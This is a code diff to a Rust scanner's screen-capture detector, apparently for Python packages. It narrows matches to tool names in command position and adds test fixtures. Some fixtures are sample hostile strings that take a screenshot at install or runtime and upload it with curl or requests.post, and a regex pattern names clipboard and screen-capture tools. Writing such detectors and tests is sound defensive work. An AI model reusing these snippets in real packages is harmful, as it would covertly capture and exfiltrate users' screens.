@@ -24,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "hunting.screen-capture",
-    revision: 3,
+    revision: 4,
     title: "Captures the screen or reads the clipboard.",
     category: Category::Hunting,
     severity: Severity::Low,
@@ -47,6 +47,27 @@ static TOOL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)(?:screencapture(?:\s+-\w+)*|import\s+-window\s+root|scrot|gnome-screenshot|spectacle\s+-b|pbpaste|xclip(?:\s+-\w+(?:\s+\w+)?)*?\s+-o(?:ut)?|xsel(?:\s+-\w+)*\s+(?:-o|--output|-b|--clipboard)|Get-Clipboard|CopyFromScreen|Clipboard\]::GetText)(?-u:\b)")
         .expect("capture tool")
 });
+
+/// A shell tool inside a Python string runs only as a command: first in the string (after a
+/// path or `sudo`/`exec`/`env`), or after a shell separator (`|`, `;`, `&&`, `$(`, a
+/// backtick, a new line). One word among others (`keywords="screenshot scrot capture"`,
+/// a help text naming the tool) is prose. PowerShell and .NET names count anywhere.
+fn in_command_position(src: &crate::scan::source::Source<'_>, at: usize, tool: &str) -> bool {
+    if tool.starts_with("Get-Clipboard") || tool.starts_with("CopyFromScreen") || tool.starts_with("Clipboard]") {
+        return true;
+    }
+    let Some(span) = src.span_at(at) else { return true };
+    let mut before = src.text.get(span.body_start.min(at)..at).unwrap_or("").trim_end_matches([' ', '\t']);
+    if let Some(dir) = before.strip_suffix('/') {
+        // `/usr/bin/scrot`: the path is part of the command word.
+        before = dir.trim_end_matches(|c: char| !" \t|;&(`\n".contains(c)).trim_end_matches([' ', '\t']);
+    }
+    let last_word = before.rsplit([' ', '\t']).next().unwrap_or("");
+    before.is_empty()
+        || before.ends_with(['|', ';', '&', '(', '`', '\n'])
+        || before.ends_with("\\n")
+        || matches!(last_word, "sudo" | "exec" | "env" | "nohup" | "timeout")
+}
 
 /// What a clipboard read is reported as (see the swap check in `scan_text`).
 const CLIPBOARD_READ: &[&str] =
@@ -97,7 +118,7 @@ impl Detector for ScreenCapture {
             }
         }
         for m in TOOL.find_iter(file.text) {
-            if !src.python || src.kind_at(m.start()) == Kind::Str {
+            if !src.python || src.kind_at(m.start()) == Kind::Str && in_command_position(src, m.start(), m.as_str()) {
                 found.push((m.start(), m.as_str()));
             }
         }
@@ -281,6 +302,41 @@ mod tests {
                 ),
                 ("xclip argv writing", "pkg/clip.py", Runtime, "subprocess.run(['xclip', '-i', '-selection', 'clipboard'], input=t)\n", None),
                 ("capture in tests is capped", "pkg/tests/test_shot.py", TestOrDocs, STEALER, Some((5, "ImageGrab.grab + requests.post", Medium))),
+                (
+                    "tool names among the keywords of setup()",
+                    "setup.py",
+                    InstallTime,
+                    "setup(name='shots', keywords=\"screenshot screen capture scrot screencapture image\")\n",
+                    None,
+                ),
+                (
+                    "a help text naming the tool",
+                    "pkg/cli.py",
+                    Runtime,
+                    "import requests\nHELP = 'uses scrot or gnome-screenshot when installed'\nrequests.post(U)\n",
+                    None,
+                ),
+                (
+                    "the tool first in a command string at install",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nos.system('scrot /tmp/s.png')\n",
+                    Some((2, "scrot", Critical)),
+                ),
+                (
+                    "the tool by its path after a separator",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nos.system('cd /tmp; /usr/bin/scrot s.png && curl -F f=@s.png U')\n",
+                    Some((2, "scrot", Critical)),
+                ),
+                (
+                    "the tool after sudo, sent on",
+                    "pkg/a.py",
+                    Runtime,
+                    "import subprocess, requests\ndef f():\n    subprocess.run('sudo screencapture -x /tmp/a.png', shell=True)\n    requests.post(U, data=open('/tmp/a.png','rb'))\n",
+                    Some((3, "screencapture -x + requests.post", High)),
+                ),
                 ("mentioned in a docstring", "pkg/a.py", Runtime, "\"\"\"Use ImageGrab.grab() or scrot to capture.\"\"\"\nimport requests\nrequests.post(U)\n", None),
                 ("mentioned in a comment", "pkg/a.py", Runtime, "# pyperclip.paste() would work too\nx = 1\n", None),
                 ("xclip writing (copy, not read)", "pkg/clip.py", Runtime, "subprocess.run(['xclip', '-selection', 'clipboard'], input=t)\n", None),
